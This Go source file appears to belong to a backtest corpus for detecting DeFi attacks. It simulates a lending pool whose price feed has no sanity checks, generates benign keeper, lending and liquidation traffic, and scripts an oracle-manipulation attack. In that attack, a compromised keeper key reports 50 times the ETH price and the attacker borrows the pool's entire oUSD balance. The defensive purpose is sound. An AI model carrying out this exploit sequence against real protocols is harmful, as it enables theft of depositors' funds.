// Package oracle is the "oracle-manipulation" scenario (Mango Markets,
// Inverse Finance, Compound's DAI oracle): a lending pool values its oWETH
// collateral with a Chainlink-style feed and trusts whatever the feed says,
// with no staleness or deviation check. The feed's updater key (the team's
// keeper) is compromised: the attacker deposits 20-odd oWETH, has the keeper
// key push a price 50 times too high, and borrows all of the pool's oUSD.
//
// Benign traffic: the keeper updating the price in small moves (and now and
// then a real 4-6% market move), a keeper rotation by the Deployer, lenders
// supplying and withdrawing (a whale among them), borrowers borrowing,
// repaying and moving collateral, and a liquidation bot liquidating the
// riskier borrowers whenever a price drop puts them under water.
//
// Benign transactions of one block are built from the state they will see:
// transactions with the same gas price are mined in the order they were
// sent, so a liquidation or borrow is priced at the last price submitted
// before it.
package oracle

import (
	"context"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"math/rand/v2"

	"github.com/ethereum/go-ethereum"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/warden-dev/warden/chain"
	"github.com/warden-dev/warden/contracts/bindings/oracleaggregator"
	"github.com/warden-dev/warden/contracts/bindings/oraclelendingpool"
	"github.com/warden-dev/warden/contracts/bindings/oracleusd"
	"github.com/warden-dev/warden/contracts/bindings/oracleweth"
	"github.com/warden-dev/warden/detect/backtest/corpus"
)

var (
	usdABI  = oracleusd.NewOracleUSD()
	wethABI = oracleweth.NewOracleWETH()
	feedABI = oracleaggregator.NewOracleAggregator()
	poolABI = oraclelendingpool.NewOracleLendingPool()
)

// Fixed gas limits, several times what each call was measured to use.
const (
	gasApprove   = 120_000
	gasTransfer  = 120_000
	gasMint      = 150_000
	gasWrap      = 120_000
	gasSubmit    = 200_000
	gasPool      = 300_000
	gasLiquidate = 400_000
	gasAdmin     = 150_000
	gasETH       = 21_000
)

// Pool parameters (OracleLendingPool defaults; benign traffic keeps them).
const (
	ltvBps       = 7_500
	thresholdBps = 8_000
	bonusBps     = 500
)

// cashKept is what benign traffic always leaves lendable in the pool.
var cashKept = corpus.Ether(1_000_000)

type scenario struct{}

// New returns the oracle-manipulation scenario.
func New() corpus.Scenario { return scenario{} }

func (scenario) Name() string     { return "oracle-manipulation" }
func (scenario) Category() string { return "oracle" }

// State is the scenario's bookkeeping.
type State struct {
	USD, WETH, Feed, Pool common.Address
	// Keeper is the feed's current updater key; Keepers lists every keeper
	// key the team has used.
	Keeper  *ecdsa.PrivateKey
	Keepers []*ecdsa.PrivateKey
	// Liquidations and PriceUpdates count benign transactions of each kind.
	Liquidations, PriceUpdates int

	price                     int64 // last submitted answer, 8 decimals
	lenders, borrowers, risky []*ecdsa.PrivateKey
	liquidator                *ecdsa.PrivateKey
	usd, weth                 map[common.Address]*big.Int // wallets
	supplied, coll, debt      map[common.Address]*big.Int
	cash                      *big.Int
	step, rotateAt            int
	rotated                   bool
	crashAt, crashLeft        int // a market sell-off: crashLeft drops of 5-7% from step crashAt
}

func keeperKey(i int) (*ecdsa.PrivateKey, error) {
	k, err := crypto.ToECDSA(crypto.Keccak256([]byte(fmt.Sprintf("warden-corpus-oracle-keeper-%d", i))))
	if err != nil {
		return nil, fmt.Errorf("oracle: keeper key %d: %w", i, err)
	}
	return k, nil
}

func (scenario) Deploy(ctx context.Context, env *corpus.Env, rng *rand.Rand) (*corpus.Deployment, error) {
	if len(env.Users) < 4 {
		return nil, fmt.Errorf("oracle: need at least 4 users, have %d", len(env.Users))
	}
	k0, err := keeperKey(0)
	if err != nil {
		return nil, err
	}
	k1, err := keeperKey(1)
	if err != nil {
		return nil, err
	}
	deployer := corpus.Address(env.Deployer)
	half := len(env.Users) / 2
	st := &State{
		Keeper: k0, Keepers: []*ecdsa.PrivateKey{k0, k1}, price: 2_000 * 1e8,
		lenders: env.Users[:half], borrowers: env.Users[half:], liquidator: env.Users[1],
		usd: map[common.Address]*big.Int{}, weth: map[common.Address]*big.Int{},
		supplied: map[common.Address]*big.Int{}, coll: map[common.Address]*big.Int{}, debt: map[common.Address]*big.Int{},
		cash: new(big.Int), rotateAt: 50 + rng.IntN(100), crashAt: 30 + rng.IntN(60), crashLeft: 2,
	}
	st.risky = st.borrowers[:(len(st.borrowers)+1)/2]
	if st.USD, _, err = env.Deploy(ctx, env.Deployer, &oracleusd.OracleUSDMetaData, deployer); err != nil {
		return nil, fmt.Errorf("oracle: deploy OracleUSD: %w", err)
	}
	if st.WETH, _, err = env.Deploy(ctx, env.Deployer, &oracleweth.OracleWETHMetaData); err != nil {
		return nil, fmt.Errorf("oracle: deploy OracleWETH: %w", err)
	}
	if st.Feed, _, err = env.Deploy(ctx, env.Deployer, &oracleaggregator.OracleAggregatorMetaData, "ETH / USD", corpus.Address(k0), deployer); err != nil {
		return nil, fmt.Errorf("oracle: deploy OracleAggregator: %w", err)
	}
	if st.Pool, _, err = env.Deploy(ctx, env.Deployer, &oraclelendingpool.OracleLendingPoolMetaData, st.WETH, st.USD, st.Feed, deployer); err != nil {
		return nil, fmt.Errorf("oracle: deploy OracleLendingPool: %w", err)
	}
	b := &batch{env: env}
	b.send(ctx, "fund keeper", env.Deployer, corpus.Address(k0), nil, corpus.Ether(10), gasETH)
	b.send(ctx, "fund keeper", env.Deployer, corpus.Address(k1), nil, corpus.Ether(10), gasETH)
	for i, u := range env.Users {
		a := corpus.Address(u)
		st.usd[a], st.weth[a] = new(big.Int), new(big.Int)
		st.supplied[a], st.coll[a], st.debt[a] = new(big.Int), new(big.Int), new(big.Int)
		if i < half {
			total := corpus.Ether(100_000 + rng.Int64N(200_000))
			if i == 0 {
				total = corpus.Ether(2_000_000) // the whale
			}
			if u == st.liquidator {
				total.Add(total, corpus.Ether(500_000)) // the bot's working capital
			}
			st.supplied[a] = part(total, 60)
			if u == st.liquidator {
				st.supplied[a] = corpus.Ether(50_000)
			}
			st.usd[a] = new(big.Int).Sub(total, st.supplied[a])
			st.cash.Add(st.cash, st.supplied[a])
			b.send(ctx, "mint oUSD", env.Deployer, st.USD, usdABI.PackMint(a, total), nil, gasMint)
		} else {
			wrapped := corpus.Ether(60 + rng.Int64N(140))
			st.coll[a] = part(wrapped, 80)
			st.weth[a] = new(big.Int).Sub(wrapped, st.coll[a])
			st.usd[a] = corpus.Ether(10_000)
			b.send(ctx, "mint oUSD", env.Deployer, st.USD, usdABI.PackMint(a, st.usd[a]), nil, gasMint)
			b.send(ctx, "wrap ETH", u, st.WETH, wethABI.PackDeposit(), wrapped, gasWrap)
			b.send(ctx, "approve oWETH", u, st.WETH, wethABI.PackApprove(st.Pool, maxUint), nil, gasApprove)
		}
		b.send(ctx, "approve oUSD", u, st.USD, usdABI.PackApprove(st.Pool, maxUint), nil, gasApprove)
	}
	if err := b.wait(ctx); err != nil {
		return nil, err
	}
	// The keeper was funded in the batch above.
	b.send(ctx, "first price", k0, st.Feed, feedABI.PackSubmit(big.NewInt(st.price)), nil, gasSubmit)
	for _, u := range env.Users {
		a := corpus.Address(u)
		if st.supplied[a].Sign() > 0 {
			b.send(ctx, "supply oUSD", u, st.Pool, poolABI.PackSupply(st.supplied[a]), nil, gasPool)
		}
		if st.coll[a].Sign() > 0 {
			b.send(ctx, "deposit collateral", u, st.Pool, poolABI.PackDepositCollateral(st.coll[a]), nil, gasPool)
		}
	}
	if err := b.wait(ctx); err != nil {
		return nil, err
	}
	for _, u := range st.borrowers {
		if hs, err := st.borrowTo(ctx, env, u, st.target(u, rng)); err != nil {
			return nil, err
		} else if len(hs) > 0 {
			b.hashes, b.whats = append(b.hashes, hs...), append(b.whats, "borrow oUSD")
		}
	}
	if err := b.wait(ctx); err != nil {
		return nil, err
	}
	return &corpus.Deployment{
		Contracts: []corpus.Contract{
			corpus.ContractOf("OracleLendingPool", st.Pool, &oraclelendingpool.OracleLendingPoolMetaData),
			corpus.ContractOf("OracleAggregator", st.Feed, &oracleaggregator.OracleAggregatorMetaData),
			corpus.ContractOf("OracleUSD", st.USD, &oracleusd.OracleUSDMetaData),
			corpus.ContractOf("OracleWETH", st.WETH, &oracleweth.OracleWETHMetaData),
		},
		Admins: []common.Address{deployer, corpus.Address(k0), corpus.Address(k1)},
		State:  st,
	}, nil
}

var maxUint = new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))

func part(v *big.Int, pct int64) *big.Int {
	return new(big.Int).Div(new(big.Int).Mul(v, big.NewInt(pct)), big.NewInt(100))
}

func bps(v *big.Int, b int64) *big.Int {
	return new(big.Int).Div(new(big.Int).Mul(v, big.NewInt(b)), big.NewInt(10_000))
}

func amount(rng *rand.Rand, lo, hi int64) *big.Int {
	cents := lo*100 + rng.Int64N((hi-lo)*100+1)
	return new(big.Int).Mul(big.NewInt(cents), big.NewInt(1e16))
}

// value is OracleLendingPool.collateralValue at the last submitted price.
func (st *State) value(a common.Address) *big.Int {
	v := new(big.Int).Mul(st.coll[a], new(big.Int).Mul(big.NewInt(st.price), big.NewInt(1e10)))
	return v.Div(v, big.NewInt(1e18))
}

// target is the debt (in bps of the collateral value) a borrower aims for:
// risky borrowers run close to the 75% LTV, the others at 30-50%.
func (st *State) target(u *ecdsa.PrivateKey, rng *rand.Rand) int64 {
	for _, r := range st.risky {
		if r == u {
			return 7_000 + rng.Int64N(350)
		}
	}
	return 3_000 + rng.Int64N(2_000)
}

// borrowTo borrows up to target bps of the collateral value, if that is
// more than the debt by at least 100 oUSD and the pool keeps its cash.
func (st *State) borrowTo(ctx context.Context, env *corpus.Env, u *ecdsa.PrivateKey, target int64) ([]common.Hash, error) {
	a := corpus.Address(u)
	amt := new(big.Int).Sub(bps(st.value(a), target), st.debt[a])
	if amt.Cmp(corpus.Ether(100)) < 0 || new(big.Int).Sub(st.cash, amt).Cmp(cashKept) < 0 {
		return nil, nil
	}
	st.debt[a].Add(st.debt[a], amt)
	st.usd[a].Add(st.usd[a], amt)
	st.cash.Sub(st.cash, amt)
	h, err := env.Call(ctx, u, st.Pool, poolABI.PackBorrow(amt), nil, gasPool)
	if err != nil {
		return nil, fmt.Errorf("oracle: borrow: %w", err)
	}
	return []common.Hash{h}, nil
}

// underwater reports whether a is liquidatable with a 1% margin.
func (st *State) underwater(a common.Address) bool {
	lhs := new(big.Int).Mul(st.debt[a], big.NewInt(10_000*100))
	rhs := new(big.Int).Mul(st.value(a), big.NewInt(thresholdBps*101))
	return lhs.Cmp(rhs) > 0
}

type batch struct {
	env    *corpus.Env
	hashes []common.Hash
	whats  []string
	err    error
}

func (b *batch) send(ctx context.Context, what string, key *ecdsa.PrivateKey, to common.Address, data []byte, value *big.Int, gas uint64) {
	if b.err != nil {
		return
	}
	h, err := b.env.Call(ctx, key, to, data, value, gas)
	if err != nil {
		b.err = fmt.Errorf("oracle: %s: %w", what, err)
		return
	}
	b.hashes, b.whats = append(b.hashes, h), append(b.whats, what)
}

func (b *batch) wait(ctx context.Context) error {
	defer func() { b.hashes, b.whats = nil, nil }()
	if b.err != nil {
		return b.err
	}
	for i, h := range b.hashes {
		r, err := b.env.Wait(ctx, h)
		if err != nil {
			return fmt.Errorf("oracle: %s: %w", b.whats[i], err)
		}
		if r.Status != 1 {
			return fmt.Errorf("oracle: %s: transaction %s reverted", b.whats[i], h)
		}
	}
	return nil
}

func (scenario) Benign(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]common.Hash, error) {
	st, ok := d.State.(*State)
	if !ok {
		return nil, fmt.Errorf("oracle: deployment state is %T, not *oracle.State", d.State)
	}
	st.step++
	call := func(key *ecdsa.PrivateKey, to common.Address, data []byte, value *big.Int, gas uint64) ([]common.Hash, error) {
		h, err := env.Call(ctx, key, to, data, value, gas)
		if err != nil {
			return nil, fmt.Errorf("oracle: benign step %d: %w", st.step, err)
		}
		return []common.Hash{h}, nil
	}
	if !st.rotated && st.step >= st.rotateAt {
		// The team rotates the feed's updater to a new keeper key.
		st.rotated = true
		st.Keeper = st.Keepers[1]
		return call(env.Deployer, st.Feed, feedABI.PackSetUpdater(corpus.Address(st.Keeper)), nil, gasAdmin)
	}
	// The liquidation bot acts on any position under water.
	if rng.IntN(2) == 0 {
		for _, u := range st.borrowers {
			a := corpus.Address(u)
			if !st.underwater(a) {
				continue
			}
			la := corpus.Address(st.liquidator)
			repay := bps(st.debt[a], 4_900)
			if st.usd[la].Cmp(repay) < 0 {
				break
			}
			seize := new(big.Int).Mul(repay, big.NewInt(1e18))
			seize.Div(seize, new(big.Int).Mul(big.NewInt(st.price), big.NewInt(1e10)))
			seize = bps(seize, 10_000+bonusBps)
			if seize.Cmp(st.coll[a]) > 0 {
				seize = new(big.Int).Set(st.coll[a])
			}
			st.debt[a].Sub(st.debt[a], repay)
			st.coll[a].Sub(st.coll[a], seize)
			st.usd[la].Sub(st.usd[la], repay)
			st.weth[la].Add(st.weth[la], seize)
			st.cash.Add(st.cash, repay)
			st.Liquidations++
			return call(st.liquidator, st.Pool, poolABI.PackLiquidate(a, repay), nil, gasLiquidate)
		}
	}
	if st.crashLeft > 0 && st.step >= st.crashAt && rng.IntN(3) == 0 {
		// A real sell-off, reported faithfully by the keeper: the riskier
		// borrowers go under water and the bot liquidates them.
		st.crashLeft--
		if st.crashLeft == 0 {
			// The next sell-off, for longer runs.
			st.crashAt, st.crashLeft = st.step+100+rng.IntN(150), 2
		}
		return st.submit(ctx, env, -(500 + rng.Int64N(201)))
	}
	lender := st.lenders[rng.IntN(len(st.lenders))]
	la := corpus.Address(lender)
	borrower := st.borrowers[rng.IntN(len(st.borrowers))]
	ba := corpus.Address(borrower)
	switch p := rng.IntN(100); {
	case p < 25:
		// The keeper's heartbeat: a small move, now and then a market move.
		move := rng.Int64N(201) - 100 // -1% .. +1%, drifting back towards 2,000
		if st.price < 1_800*1e8 {
			move += 40
		} else if st.price > 2_200*1e8 {
			move -= 40
		}
		if rng.IntN(12) == 0 {
			move = -(400 + rng.Int64N(201))
			if rng.IntN(3) == 0 {
				move = -move
			}
		}
		return st.submit(ctx, env, move)
	case p < 30:
		w := st.lenders[0]
		wa := corpus.Address(w)
		amt := part(st.supplied[wa], 20+rng.Int64N(30))
		if amt.Sign() > 0 && new(big.Int).Sub(st.cash, amt).Cmp(cashKept) >= 0 {
			st.supplied[wa].Sub(st.supplied[wa], amt)
			st.usd[wa].Add(st.usd[wa], amt)
			st.cash.Sub(st.cash, amt)
			return call(w, st.Pool, poolABI.PackWithdraw(amt), nil, gasPool)
		}
		amt = part(st.usd[wa], 90)
		if amt.Sign() == 0 {
			break
		}
		st.usd[wa].Sub(st.usd[wa], amt)
		st.supplied[wa].Add(st.supplied[wa], amt)
		st.cash.Add(st.cash, amt)
		return call(w, st.Pool, poolABI.PackSupply(amt), nil, gasPool)
	case p < 45:
		return st.borrowTo(ctx, env, borrower, st.target(borrower, rng))
	case p < 57:
		amt := amount(rng, 100, 20_000)
		if st.debt[ba].Cmp(amt) < 0 {
			amt = new(big.Int).Set(st.debt[ba])
		}
		if amt.Sign() == 0 || st.usd[ba].Cmp(amt) < 0 {
			break
		}
		st.debt[ba].Sub(st.debt[ba], amt)
		st.usd[ba].Sub(st.usd[ba], amt)
		st.cash.Add(st.cash, amt)
		return call(borrower, st.Pool, poolABI.PackRepay(amt), nil, gasPool)
	case p < 65:
		// Collateral in, or (for a comfortable position) a little out.
		if st.weth[ba].Cmp(corpus.Ether(1)) > 0 && rng.IntN(2) == 0 {
			amt := part(st.weth[ba], 50)
			st.weth[ba].Sub(st.weth[ba], amt)
			st.coll[ba].Add(st.coll[ba], amt)
			return call(borrower, st.Pool, poolABI.PackDepositCollateral(amt), nil, gasPool)
		}
		amt := part(st.coll[ba], 5)
		st.coll[ba].Sub(st.coll[ba], amt)
		if amt.Sign() == 0 || bps(st.value(ba), 5_000).Cmp(st.debt[ba]) < 0 {
			st.coll[ba].Add(st.coll[ba], amt)
			break
		}
		st.weth[ba].Add(st.weth[ba], amt)
		return call(borrower, st.Pool, poolABI.PackWithdrawCollateral(amt), nil, gasPool)
	case p < 75:
		amt := amount(rng, 100, 10_000)
		if part(st.supplied[la], 95).Cmp(amt) < 0 || new(big.Int).Sub(st.cash, amt).Cmp(cashKept) < 0 {
			break
		}
		st.supplied[la].Sub(st.supplied[la], amt)
		st.usd[la].Add(st.usd[la], amt)
		st.cash.Sub(st.cash, amt)
		return call(lender, st.Pool, poolABI.PackWithdraw(amt), nil, gasPool)
	case p < 85:
		users := env.Users
		from := users[rng.IntN(len(users))]
		fa, ta := corpus.Address(from), corpus.Address(users[rng.IntN(len(users))])
		amt := amount(rng, 5, 2_000)
		if fa == ta || st.usd[fa].Cmp(amt) < 0 {
			break
		}
		st.usd[fa].Sub(st.usd[fa], amt)
		st.usd[ta].Add(st.usd[ta], amt)
		return call(from, st.USD, usdABI.PackTransfer(ta, amt), nil, gasTransfer)
	}
	amt := amount(rng, 100, 10_000)
	if st.usd[la].Cmp(amt) < 0 || lender == st.liquidator {
		return nil, nil
	}
	st.usd[la].Sub(st.usd[la], amt)
	st.supplied[la].Add(st.supplied[la], amt)
	st.cash.Add(st.cash, amt)
	return call(lender, st.Pool, poolABI.PackSupply(amt), nil, gasPool)
}

// submit has the keeper report the price moved by move bps.
func (st *State) submit(ctx context.Context, env *corpus.Env, move int64) ([]common.Hash, error) {
	st.price += st.price * move / 10_000
	st.price = max(1_200*1e8, min(2_600*1e8, st.price))
	st.PriceUpdates++
	h, err := env.Call(ctx, st.Keeper, st.Feed, feedABI.PackSubmit(big.NewInt(st.price)), nil, gasSubmit)
	if err != nil {
		return nil, fmt.Errorf("oracle: benign step %d: price update: %w", st.step, err)
	}
	return []common.Hash{h}, nil
}

func read(ctx context.Context, env *corpus.Env, to common.Address, data []byte, block *big.Int) ([]byte, error) {
	out, err := env.Client.CallContract(ctx, ethereum.CallMsg{To: &to, Data: data}, block)
	if err != nil {
		return nil, fmt.Errorf("oracle: call %s: %w", to, err)
	}
	return out, nil
}

// Balance reads who's oUSD balance at block (nil = latest).
func Balance(ctx context.Context, env *corpus.Env, token, who common.Address, block *big.Int) (*big.Int, error) {
	v, err := chain.BalanceOf(ctx, env.Client, token, who, block)
	if err != nil {
		return nil, fmt.Errorf("oracle: %w", err)
	}
	return v, nil
}

// manipulation is the factor the compromised keeper inflates the price by.
const manipulation = 50

func (scenario) Attack(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]corpus.AttackTx, error) {
	st, ok := d.State.(*State)
	if !ok {
		return nil, fmt.Errorf("oracle: deployment state is %T, not *oracle.State", d.State)
	}
	cash, err := Balance(ctx, env, st.USD, st.Pool, nil)
	if err != nil {
		return nil, err
	}
	raw, err := read(ctx, env, st.Feed, feedABI.PackLatestAnswer(), nil)
	if err != nil {
		return nil, err
	}
	answer, err := feedABI.UnpackLatestAnswer(raw)
	if err != nil {
		return nil, fmt.Errorf("oracle: decode latestAnswer: %w", err)
	}
	fake := new(big.Int).Mul(answer, big.NewInt(manipulation))
	// Collateral whose value at the fake price covers all the cash at the
	// 75% LTV, plus 2%.
	coll := new(big.Int).Mul(cash, big.NewInt(1e18))
	coll.Mul(coll, big.NewInt(10_000))
	coll.Div(coll, new(big.Int).Mul(fake, big.NewInt(1e10*ltvBps)))
	coll = part(coll, 102)

	var out []corpus.AttackTx
	step := func(stage corpus.Stage, note string, key *ecdsa.PrivateKey, to common.Address, data []byte, value *big.Int, gas uint64) error {
		h, err := env.Call(ctx, key, to, data, value, gas)
		if err != nil {
			return fmt.Errorf("oracle: %s: %w", note, err)
		}
		out = append(out, corpus.AttackTx{Hash: h, Stage: stage, Note: note})
		r, err := env.Wait(ctx, h)
		if err != nil {
			return fmt.Errorf("oracle: %s: %w", note, err)
		}
		if r.Status != 1 {
			return fmt.Errorf("oracle: %s: transaction %s reverted", note, h)
		}
		return nil
	}
	if err := step(corpus.StagePreparation, "attacker wraps ETH into oWETH", env.Attacker, st.WETH, wethABI.PackDeposit(), coll, gasWrap); err != nil {
		return out, err
	}
	if err := step(corpus.StagePreparation, "attacker approves the pool", env.Attacker, st.WETH, wethABI.PackApprove(st.Pool, maxUint), nil, gasApprove); err != nil {
		return out, err
	}
	if err := step(corpus.StagePreparation, "attacker deposits oWETH collateral", env.Attacker, st.Pool, poolABI.PackDepositCollateral(coll), nil, gasPool); err != nil {
		return out, err
	}
	if err := step(corpus.StageExploit, fmt.Sprintf("compromised keeper key submits %dx the ETH price", manipulation), st.Keeper, st.Feed, feedABI.PackSubmit(fake), nil, gasSubmit); err != nil {
		return out, err
	}
	if err := step(corpus.StageExploit, "attacker borrows all the pool's oUSD against overvalued collateral", env.Attacker, st.Pool, poolABI.PackBorrow(cash), nil, gasPool); err != nil {
		return out, err
	}
	return out, nil
}
